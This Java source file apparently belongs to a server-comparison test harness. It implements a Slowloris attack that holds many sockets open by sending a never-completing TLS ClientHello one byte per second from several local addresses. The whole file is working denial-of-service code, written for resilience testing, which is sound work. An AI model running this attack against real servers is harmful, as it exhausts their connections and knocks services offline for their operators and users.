package io.jaelegram.comparison.hostile;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** Holds many connections open by one byte a second each of a handshake that never completes. */
final class Slowloris extends Attack {
    private static final Duration STEP = Duration.ofSeconds(1);

    /** A TLS record header that announces a ClientHello of 2,000 bytes, as ours have: at one a second, half an hour. */
    private static final byte[] NEVER_ENDING = {0x16, 0x03, 0x01, 0x07, (byte) 0xd0, 0x01, 0x00, 0x07, (byte) 0xcc, 3, 3
    };

    private final int sockets;

    Slowloris(int sockets) {
        super("slowloris, " + sockets + " sockets at 1 B/s", 1);
        this.sockets = sockets;
    }

    @Override
    void attack(Target at, int worker, Term term, Effort effort) throws IOException {
        List<Drip> drips = new ArrayList<>();
        try {
            for (int second = 1; !term.over(); second++) {
                for (int i = drips.size(); i < sockets && !term.over(); i++) {
                    drips.add(new Drip(connect(at, i, effort)));
                }
                drips.removeIf(drip -> !drip.oneByte(effort));
                term.awaitPoint(STEP.multipliedBy(second));
            }
        } finally {
            for (Drip drip : drips) {
                drip.channel.close();
            }
        }
    }

    private static SocketChannel connect(Target at, int stranger, Effort effort) throws IOException {
        SocketChannel channel = SocketChannel.open();
        try {
            channel.bind(new InetSocketAddress(Target.stranger(stranger), 0));
            channel.connect(at.server());
            channel.configureBlocking(false);
            effort.connected();
            return channel;
        } catch (IOException e) {
            channel.close();
            throw e;
        }
    }

    /** One connection and how far it got. */
    private static final class Drip {
        private final SocketChannel channel;
        private final ByteBuffer heard = ByteBuffer.allocate(64);
        private int at;

        Drip(SocketChannel channel) {
            this.channel = channel;
        }

        /** False when the server has ended the connection. */
        boolean oneByte(Effort effort) {
            try {
                byte next = at < NEVER_ENDING.length ? NEVER_ENDING[at] : 0;
                heard.clear();
                if (channel.read(heard) >= 0 && channel.write(ByteBuffer.wrap(new byte[] {next})) == 1) {
                    at++;
                    effort.sent(1);
                    return true;
                }
            } catch (IOException e) {
                // A reset: counted below as every other end.
                at = 0;
            }
            effort.cutOff();
            close();
            return false;
        }

        private void close() {
            try {
                channel.close();
            } catch (IOException e) {
                throw new java.io.UncheckedIOException("a socket of the attacker does not close", e);
            }
        }
    }
}
